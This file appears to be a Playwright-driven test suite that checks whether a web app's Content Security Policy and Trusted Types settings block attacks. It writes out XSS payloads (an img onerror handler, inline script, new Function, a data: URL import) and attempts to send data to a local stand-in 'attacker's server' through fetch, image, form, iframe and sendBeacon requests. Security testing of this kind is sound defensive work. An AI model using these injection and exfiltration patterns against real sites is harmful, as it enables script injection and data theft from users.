import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { resolve } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { launch } from "./chromium.ts";
import { servePages } from "./host.ts";

let browser: Browser;
/** An attacker's server, and what has reached it. */
let elsewhere: Server;
const taken: string[] = [];

beforeAll(async () => {
  browser = await launch();
  elsewhere = createServer((request, response) => {
    taken.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise<void>((done) => elsewhere.listen(0, "127.0.0.1", done));
});
afterAll(async () => {
  await browser?.close();
  elsewhere?.close();
});

/** What an attacker would try who has got a text into the page, or runs in it already. */
async function attacked(page: Page, target: string) {
  return page.evaluate(async (elsewhere) => {
    const stopped: string[] = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      stopped.push(effectiveDirective),
    );
    const thrown = async (run: () => unknown): Promise<string> => {
      try {
        await run();
        return "nothing";
      } catch (error) {
        return (error as Error).name;
      }
    };
    const ran = globalThis as { ranInline?: boolean; ranHandler?: boolean };
    const held = document.createElement("div");
    document.body.append(held);
    await new Promise((done) => setTimeout(done)); // the driver's own frame may compile code
    const result = {
      html: await thrown(() => {
        held.innerHTML = "<img src=x onerror='ranHandler = true'>";
      }),
      code: await thrown(() => new Function("return 1")()),
      scriptText: await thrown(() => {
        const script = document.createElement("script");
        script.text = "ranInline = true";
      }),
      policy: await thrown(() =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string): void } }
        ).trustedTypes.createPolicy("mine"),
      ),
      fetched: await thrown(() => fetch(`${elsewhere}/take?mine`, { mode: "no-cors" })),
      handler: await thrown(() => held.setAttribute("onclick", "ranHandler = true")),
      address: await thrown(() => {
        document.createElement("script").src = `${elsewhere}/take`;
      }),
    };
    const script = document.createElementNS("http://www.w3.org/1999/xhtml", "script");
    script.append("ranInline = true"); // a text node is no sink of Trusted Types: hashes must stop it
    document.body.append(script);
    const image = new Image();
    image.src = `${elsewhere}/take?mine`;
    const form = document.createElement("form");
    form.action = `${elsewhere}/take`;
    document.body.append(form);
    form.submit();
    const style = document.createElement("style");
    style.textContent = "#root { display: none }";
    document.head.append(style);
    const frame = document.createElement("iframe");
    frame.src = `${elsewhere}/take`;
    document.body.append(frame);
    held.click();
    navigator.sendBeacon?.(`${elsewhere}/take`, "mine");
    await new Promise((done) => setTimeout(done, 300));
    return {
      ...result,
      stopped: [...new Set(stopped)].sort(),
      ran: [ran.ranInline === true, ran.ranHandler === true],
      isHidden: getComputedStyle(document.getElementById("root") as Element).display === "none",
    };
  }, target);
}

describe.each([
  ["the app", () => inject("address")],
  ["an embed", () => `${inject("address")}embed.html?figure=cobweb`],
  ["the one file", () => pathToFileURL(resolve("dist/app/overfix.html")).href],
])("%s", (_name, address) => {
  it("runs no script, shows no sheet and sends nothing that is not its own", async () => {
    const context = await browser.newContext({ serviceWorkers: "block" });
    const page = await context.newPage();
    const before: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy|Trusted/.test(message.text())) before.push(message.text());
    });
    await page.goto(address());
    await page.locator("figure svg[role=img], .figure svg[role=img]").first().waitFor();
    expect(before).toEqual([]); // the page itself breaks no rule of its policy
    const foreign = "import('data:text/javascript,ranInline = true')";
    expect(await page.evaluate(`${foreign}.catch((error) => error.name)`)).toBe("TypeError");
    expect(
      await attacked(page, `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`),
    ).toEqual({
      html: "TypeError",
      code: "EvalError",
      scriptText: "TypeError",
      policy: "TypeError",
      fetched: "TypeError",
      handler: "TypeError",
      address: "TypeError",
      stopped: [
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "require-trusted-types-for",
        "style-src-elem",
        "trusted-types",
      ],
      ran: [false, false],
      isHidden: false,
    });
    expect(taken).toEqual([]);
    await context.close();
  });
});

it("a figure's element works in a page of somebody else that forbids all but what it needs", async () => {
  const policy = [
    "default-src 'none'",
    `script-src ${inject("address")}`,
    "worker-src blob:",
    "font-src data:",
    "img-src data:",
    "require-trusted-types-for 'script'",
    "trusted-types overfix-worker",
  ].join("; ");
  const host = await servePages({
    "/": `<!doctype html><meta charset="utf-8" />
      <meta http-equiv="Content-Security-Policy" content="${policy}" />
      <title>host</title><link rel="icon" href="data:," />
      <script defer src="${inject("address")}overfix-figure.js"></script>
      <overfix-figure figure="flip-risk"></overfix-figure>`,
  });
  const page = await browser.newPage();
  const complaints: string[] = [];
  page.on("console", (message) => {
    if (["error", "warning"].includes(message.type())) complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(error.message));
  await page.goto(host.address);
  await page.getByText(/1,000 fits/).waitFor();
  expect(page.workers().length).toBeGreaterThan(0);
  expect(complaints).toEqual([]);
  await page.close();
  await host.close();
});
